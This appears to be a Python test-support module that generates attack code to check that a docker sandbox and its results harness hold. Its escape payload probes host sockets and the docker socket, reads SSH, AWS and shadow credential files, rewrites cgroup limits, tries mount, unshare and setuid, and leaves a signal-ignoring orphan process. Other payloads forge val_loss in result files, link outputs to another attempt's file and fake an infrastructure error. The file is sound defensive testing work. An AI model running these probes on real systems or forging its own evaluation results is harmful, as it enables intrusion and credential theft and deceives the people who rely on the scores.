"""Attack regions against the real docker sandbox (tests/docker/test_sandbox_attacks.py).

Each is a BitLinear region as if a static escape had been found: it imports `os`, `socket`,
`ctypes` ... and is spliced without the static checks (the test's `unchecked`). What it aims
at (the host's listener, paths, the marker of its orphan) is passed in as a `Targets`, which
the region reads from one JSON literal at its top: the region is given paths and addresses,
never the secrets the test looks for, so whatever secret the test finds in its report was read.

`escape`: rank 0 tries everything at import (module level), records each outcome in
`sandbox_report.json` in its own output folder, then again inside `BitLinear.forward` during
the first evaluation; there it raises the real OSError of its last denied write, with every
earlier denial chained (`__cause__`, no traceback each), so the attempt ends
`failed_submission` and the record's reason and traceback carry the errno texts.

The others forge what the harness reads back from the writable output folders: final.json and
metrics.jsonl (`forge_training`), the eval stage's eval.json too (`forge_both_stages`), a link
the host follows to another attempt's file (`link_to_host_file`), an error record of ours
(`forge_infra_verdict`).
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field

from harness.task import TaskSpec
from tests.security.attacks import at_top, in_forward

REPORT = "sandbox_report.json"
# The region's handshake with the host while it waits (the memory limit is inspected then).
ATTACKED = "memory_attacked"
INSPECTED = "host_inspected"
HEARTBEAT = "orphan_heartbeat.txt"


@dataclass(frozen=True)
class Targets:
    port: int  # a TCP and a UDP listener on every host address
    abstract: str  # an abstract unix socket the host listens on (no leading NUL)
    bridge_ip: str  # the docker bridge's gateway: the host, seen from a bridged container
    primary_ip: str  # the host's own address
    marker: str  # in the orphan's argv and in the names of files written to /tmp, /dev/shm
    data_dir: str  # the smoke shards: mounted read-only
    writes: dict[str, str] = field(default_factory=dict)  # name -> a path to append to
    reads: dict[str, str] = field(default_factory=dict)  # name -> a path to read
    listdirs: dict[str, str] = field(default_factory=dict)  # name -> a folder to list
    link_source: str = ""  # a file of the read-only attempt mount, to hard-link into out/
    # In every path, "@attempt" stands for the attempt's folder: the region reads it at run
    # time (its working directory), as the attempt is named only when it starts.

    def literal(self) -> str:
        return repr(json.dumps(asdict(self)))


ESCAPE = r'''import ctypes as _sbx_ctypes
import errno as _sbx_errno
import json as _sbx_json
import os as _sbx_os
import resource as _sbx_resource
import socket as _sbx_socket
import sys as _sbx_sys
import time as _sbx_time

_SBX_T = _sbx_json.loads(__TARGETS__)
_SBX_RANK = _sbx_os.environ.get("RANK", "0")
_SBX_OUT = next((a.split("=", 1)[1] for a in _sbx_sys.argv if a.startswith("--out_dir=")),
                _sbx_os.getcwd())
_SBX_REPORT = {"import": {}, "forward": {}}
_SBX_DENIED = []  # (name, the real exception), in order: chained into the one raised
_SBX_STATE = {"phase": "import", "forward_done": False}
_SBX_ATTEMPT = _sbx_os.getcwd()  # the stage runs in its attempt folder


def _sbx_p(path):
    """A target path; "@attempt" stands for this attempt's folder (named at run time)."""
    return path.replace("@attempt", _SBX_ATTEMPT)


def _sbx_try(name, fn):
    """Run one attack; record what the sandbox answered."""
    try:
        got = fn()
    except Exception as e:
        num = getattr(e, "errno", None)
        _SBX_REPORT[_SBX_STATE["phase"]][name] = {
            "outcome": "denied", "type": type(e).__name__, "errno_num": num,
            "errno": _sbx_errno.errorcode.get(num) if isinstance(num, int) else None,
            "message": str(e)}
        _SBX_DENIED.append((name, e))
        return None
    _SBX_REPORT[_SBX_STATE["phase"]][name] = {"outcome": "done", "value": got}
    return got


def _sbx_save():
    path = _sbx_os.path.join(_SBX_OUT, "sandbox_report.json")
    with open(path + ".tmp", "w") as f:
        _sbx_json.dump(_SBX_REPORT, f, indent=1, default=repr)
    _sbx_os.replace(path + ".tmp", path)


def _sbx_tcp(host):
    _sbx_socket.create_connection((host, _SBX_T["port"]), timeout=3).close()
    return "connected"


def _sbx_udp(host):
    s = _sbx_socket.socket(_sbx_socket.AF_INET, _sbx_socket.SOCK_DGRAM)
    try:
        s.sendto(b"escaped", (host, _SBX_T["port"]))
    finally:
        s.close()
    return "sent"


def _sbx_unix(path):
    s = _sbx_socket.socket(_sbx_socket.AF_UNIX)
    try:
        s.settimeout(3)
        s.connect(path)
        if path.startswith("/"):
            s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
            return s.recv(200).decode("latin-1")
    finally:
        s.close()
    return "connected"


def _sbx_network(suffix=""):
    _sbx_try("tcp_loopback" + suffix, lambda: _sbx_tcp("127.0.0.1"))
    _sbx_try("tcp_bridge" + suffix, lambda: _sbx_tcp(_SBX_T["bridge_ip"]))
    _sbx_try("tcp_primary" + suffix, lambda: _sbx_tcp(_SBX_T["primary_ip"]))
    if suffix:
        return
    _sbx_try("tcp_internet", lambda: _sbx_socket.create_connection(("1.1.1.1", 443),
                                                                   timeout=3).close())
    _sbx_try("udp_bridge", lambda: _sbx_udp(_SBX_T["bridge_ip"]))
    _sbx_try("udp_primary", lambda: _sbx_udp(_SBX_T["primary_ip"]))
    _sbx_try("dns", lambda: [a[4][0] for a in _sbx_socket.getaddrinfo("pypi.org", 443)])
    _sbx_try("docker_socket", lambda: _sbx_unix("/var/run/docker.sock"))
    _sbx_try("abstract_socket", lambda: _sbx_unix("\0" + _SBX_T["abstract"]))


def _sbx_append(path):
    with open(path, "a") as f:
        f.write("escaped\n")
    return "written"


def _sbx_read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("utf-8", "replace")


def _sbx_files():
    for name, path in _SBX_T["writes"].items():
        _sbx_try("write_" + name, lambda p=path: _sbx_append(_sbx_p(p)))
    for name, path in _SBX_T["reads"].items():
        _sbx_try("read_" + name, lambda p=path: _sbx_read(_sbx_p(p)))
    for name, path in _SBX_T["listdirs"].items():
        _sbx_try("list_" + name, lambda p=path: sorted(_sbx_os.listdir(_sbx_p(p))))
    marker = _SBX_T["marker"]
    # Private to the container: written, but nothing of it may appear on the host.
    _sbx_try("write_tmp", lambda: _sbx_append("/tmp/" + marker + "-tmp.txt"))
    _sbx_try("write_dev_shm", lambda: _sbx_append("/dev/shm/" + marker + "-shm.txt"))
    src = _sbx_p(_SBX_T["link_source"])
    _sbx_try("hardlink_input", lambda: _sbx_os.link(src, _sbx_os.path.join(_SBX_OUT, "hl")))
    _sbx_try("chmod_input", lambda: _sbx_os.chmod(src, 0o777))
    _sbx_try("unlink_input", lambda: _sbx_os.unlink(src))
    _sbx_try("mkdir_root", lambda: _sbx_os.mkdir("/" + marker))
    _sbx_try("home", lambda: _sbx_os.path.expanduser("~"))
    for cred in (".aws/credentials", ".netrc", ".ssh/id_rsa"):
        _sbx_try("read_home_" + cred, lambda c=cred: _sbx_read(_sbx_os.path.expanduser("~/" + c)))


def _sbx_proc():
    _sbx_try("environ", lambda: dict(_sbx_os.environ))
    _sbx_try("read_proc_1_environ", lambda: _sbx_read("/proc/1/environ"))
    seen = {}
    for pid in sorted(p for p in _sbx_os.listdir("/proc") if p.isdigit()):
        entry = {}
        for what in ("cmdline", "environ"):
            try:
                entry[what] = _sbx_read("/proc/%s/%s" % (pid, what))
            except OSError as e:
                entry[what] = "denied: " + str(_sbx_errno.errorcode.get(e.errno))
        seen[pid] = entry
    _SBX_REPORT["import"]["proc"] = {"outcome": "done", "value": seen}
    _sbx_try("mountinfo", lambda: [line.split()[4] for line in
                                   open("/proc/self/mountinfo").read().splitlines()])
    _sbx_try("status", lambda: [line for line in open("/proc/self/status").read().splitlines()
                                if line.startswith(("CapEff", "NoNewPrivs", "Seccomp:"))])
    _sbx_try("read_etc_shadow", lambda: _sbx_read("/etc/shadow"))


def _sbx_libc(fn, *args):
    libc = _sbx_ctypes.CDLL(None, use_errno=True)
    if getattr(libc, fn)(*args) != 0:
        num = _sbx_ctypes.get_errno()
        raise OSError(num, _sbx_os.strerror(num))
    return "ok"


def _sbx_memory():
    cg = "/sys/fs/cgroup"
    big = str(2 ** 40)
    for name, path, value in (
            ("cgroup1_memory_limit", cg + "/memory/memory.limit_in_bytes", big),
            ("cgroup1_memsw_limit", cg + "/memory/memory.memsw.limit_in_bytes", big),
            ("cgroup1_pids_max", cg + "/pids/pids.max", "max"),
            ("cgroup2_memory_max", cg + "/memory.max", "max"),
            ("cgroup2_pids_max", cg + "/pids.max", "max")):
        _sbx_try("write_" + name, lambda p=path, v=value: open(p, "w").write(v))
    hard = _sbx_resource.getrlimit(_sbx_resource.RLIMIT_NOFILE)[1]
    _sbx_try("setrlimit_nofile_above_hard",
             lambda: _sbx_resource.setrlimit(_sbx_resource.RLIMIT_NOFILE, (hard + 1, hard + 1)))
    nproc = _sbx_resource.getrlimit(_sbx_resource.RLIMIT_NPROC)[1]
    _sbx_try("setrlimit_nproc_above_hard",
             lambda: _sbx_resource.setrlimit(_sbx_resource.RLIMIT_NPROC, (nproc + 1, nproc + 1)))
    ms_remount, ms_bind = 32, 4096
    _sbx_try("remount_root_rw", lambda: _sbx_libc("mount", None, b"/", None, ms_remount, None))
    _sbx_try("remount_data_rw", lambda: _sbx_libc(
        "mount", None, _SBX_T["data_dir"].encode(), None, ms_remount | ms_bind, None))
    _sbx_try("mount_cgroup", lambda: _sbx_libc("mount", b"cgroup", b"/tmp", b"cgroup", 0,
                                               b"memory"))
    _sbx_try("unshare_user_ns", lambda: _sbx_libc("unshare", 0x10000000))
    _sbx_try("unshare_mount_ns", lambda: _sbx_libc("unshare", 0x00020000))
    _sbx_try("setuid_root", lambda: _sbx_os.setuid(0))
    _sbx_try("memory_limit_seen", lambda: open(cg + "/memory/memory.limit_in_bytes").read().strip())


_SBX_ORPHAN = """
import signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
end = time.time() + 900
while time.time() < end:
    try:
        with open(sys.argv[2], "a") as f:
            f.write("%f\\n" % time.time())
    except OSError:
        pass
    time.sleep(0.25)
"""


def _sbx_orphan():
    """Double fork, setsid, exec: a process no longer anybody's child, marker in its argv."""
    beat = _sbx_os.path.join(_SBX_OUT, "orphan_heartbeat.txt")
    pid = _sbx_os.fork()
    if pid == 0:
        try:
            _sbx_os.setsid()
            if _sbx_os.fork() == 0:
                _sbx_os.execv(_sbx_sys.executable,
                              [_sbx_sys.executable, "-c", _SBX_ORPHAN, _SBX_T["marker"], beat])
        finally:
            _sbx_os._exit(0)
    _sbx_os.waitpid(pid, 0)
    deadline = _sbx_time.time() + 20
    while not _sbx_os.path.exists(beat) and _sbx_time.time() < deadline:
        _sbx_time.sleep(0.1)
    return _sbx_os.path.exists(beat)


def _sbx_wait_for_host():
    """Let the host inspect the container while it runs (the memory limit after the attacks,
    the orphan in the host's process table)."""
    open(_sbx_os.path.join(_SBX_OUT, "memory_attacked"), "w").close()
    deadline = _sbx_time.time() + 90
    done = _sbx_os.path.join(_SBX_OUT, "host_inspected")
    while not _sbx_os.path.exists(done) and _sbx_time.time() < deadline:
        _sbx_time.sleep(0.2)
    return _sbx_os.path.exists(done)


def _sbx_raise():
    """The last denial, raised for real, every earlier one chained as its cause."""
    last = None
    for _name, e in _SBX_DENIED:
        e.__traceback__ = None
        e.__cause__ = last
        e.__suppress_context__ = True
        last = e
    raise last


def _sbx_forward():
    if _SBX_STATE["forward_done"]:
        return
    _SBX_STATE["forward_done"] = True
    if _SBX_RANK != "0":
        # Stop only once rank 0 has recorded its error: the first rank to fail gets the
        # others stopped by torchrun.
        err = _sbx_os.path.join(_SBX_OUT, "error_rank0.json")
        deadline = _sbx_time.time() + 120
        while not _sbx_os.path.exists(err) and _sbx_time.time() < deadline:
            _sbx_time.sleep(0.1)
        raise RuntimeError("rank %s stops: rank 0's attack is over" % _SBX_RANK)
    _SBX_STATE["phase"] = "forward"
    _sbx_network("_in_forward")
    _sbx_try("read_sibling_in_forward",
             lambda: _sbx_read(_sbx_p(_SBX_T["reads"]["sibling_secret"])))
    _sbx_try("write_attempt_script_in_forward",
             lambda: _sbx_append(_sbx_p(_SBX_T["writes"]["attempt_script"])))
    _sbx_save()
    _sbx_raise()


if _SBX_RANK == "0":
    _sbx_network()
    _sbx_files()
    _sbx_proc()
    _sbx_memory()
    _sbx_try("orphan", _sbx_orphan)
    _sbx_save()
    _sbx_try("host_inspected", _sbx_wait_for_host)
    _sbx_save()
'''


def escape(task: TaskSpec, targets: Targets) -> str:
    """Every escape at import on rank 0, a few again in BitLinear.forward, then raise."""
    return (ESCAPE.replace("__TARGETS__", targets.literal()) + "\n\n"
            + in_forward(task, "        _sbx_forward()\n"))


# --- forging what the harness reads back ------------------------------------------------------

FORGE_TRAINING = '''import atexit as _fg_atexit
import json as _fg_json
import os as _fg_os
import sys as _fg_sys

FORGED_VAL_LOSS = 0.5


def _fg_out():
    return next((a.split("=", 1)[1] for a in _fg_sys.argv if a.startswith("--out_dir=")), None)


def _fg_pretrain():
    """After the template wrote them: final.json and every evaluation of metrics.jsonl."""
    out = _fg_out()
    final = _fg_os.path.join(out, "final.json")
    if _fg_os.environ.get("RANK", "0") != "0" or not _fg_os.path.exists(final):
        return
    with open(final) as f:
        data = _fg_json.load(f)
    data["val_loss"] = FORGED_VAL_LOSS
    with open(final, "w") as f:
        _fg_json.dump(data, f)
    curve = _fg_os.path.join(out, "metrics.jsonl")
    rows = [_fg_json.loads(line) for line in open(curve).read().splitlines() if line.strip()]
    for row in rows:
        if "val_loss" in row:
            row["val_loss"] = FORGED_VAL_LOSS
    with open(curve, "w") as f:
        f.write("".join(_fg_json.dumps(row) + "\\n" for row in rows))


if _fg_out() is not None:
    _fg_atexit.register(_fg_pretrain)
'''

FORGE_EVAL = '''

def _fg_eval():
    """The eval stage imports this module too: after eval_lm.py wrote eval.json, its
    recomputed val_loss becomes the forged one, so that the two stages agree."""
    args = _fg_sys.argv
    path = next((a.split("=", 1)[1] for a in args if a.startswith("--out=")), None)
    if path is None and "--out" in args[:-1]:
        path = args[args.index("--out") + 1]
    if path is None or not _fg_os.path.exists(path):
        return
    with open(path) as f:
        report = _fg_json.load(f)
    report["metrics"]["val_loss"] = FORGED_VAL_LOSS
    if isinstance(report.get("val_loss"), dict):
        report["val_loss"]["value"] = FORGED_VAL_LOSS
    with open(path, "w") as f:
        _fg_json.dump(report, f)


if _fg_out() is None:
    _fg_atexit.register(_fg_eval)
'''


def forge_training(task: TaskSpec) -> str:
    """final.json's and metrics.jsonl's val_loss rewritten to 0.5 at exit (rank 0)."""
    return at_top(task, FORGE_TRAINING)


def forge_both_stages(task: TaskSpec) -> str:
    """As forge_training, and the eval stage's eval.json too: its recomputation agrees."""
    return at_top(task, FORGE_TRAINING + FORGE_EVAL)


LINK = '''import json as _ln_json
import os as _ln_os
import sys as _ln_sys
import time as _ln_time

_LN_TARGET = _ln_json.loads(__TARGET__)
_LN_OUT = next(a.split("=", 1)[1] for a in _ln_sys.argv if a.startswith("--out_dir="))
if _ln_os.environ.get("RANK", "0") == "0":
    # Dangling inside the container (the target is not mounted); the host resolves it.
    for _ln_name in ("final.json", "metrics.jsonl"):
        _ln_os.symlink(_LN_TARGET, _ln_os.path.join(_LN_OUT, _ln_name + ".tmp"))
        _ln_os.replace(_ln_os.path.join(_LN_OUT, _ln_name + ".tmp"),
                       _ln_os.path.join(_LN_OUT, _ln_name))
else:
    _ln_deadline = _ln_time.time() + 60
    while not _ln_os.path.islink(_ln_os.path.join(_LN_OUT, "metrics.jsonl")) \\
            and _ln_time.time() < _ln_deadline:
        _ln_time.sleep(0.1)
# Every rank ends cleanly before training: the stage exits 0 and its final.json is read.
_ln_os._exit(0)
'''


def link_to_host_file(task: TaskSpec, target: str) -> str:
    """final.json and metrics.jsonl made links to a host file outside every mount (another
    attempt's), then a clean exit: what the host reads back is that file."""
    return at_top(task, LINK.replace("__TARGET__", repr(json.dumps(target))))


FORGE_INFRA = '''import json as _fi_json
import os as _fi_os
import sys as _fi_sys

_FI_OUT = next(a.split("=", 1)[1] for a in _fi_sys.argv if a.startswith("--out_dir="))
# The template's own record of a refused data directory (kind "data": ours, refunded),
# written by the submission, then an exit that skips the guard's handler.
with open(_fi_os.path.join(_FI_OUT, "error_rank%s.json" % _fi_os.environ.get("RANK", "0")),
          "w") as _fi_f:
    _fi_json.dump({"kind": "data", "message": "data directory unreadable"}, _fi_f)
_fi_os._exit(2)
'''


def forge_infra_verdict(task: TaskSpec) -> str:
    """Every rank writes an error record saying our data was bad, then exits 2."""
    return at_top(task, FORGE_INFRA)
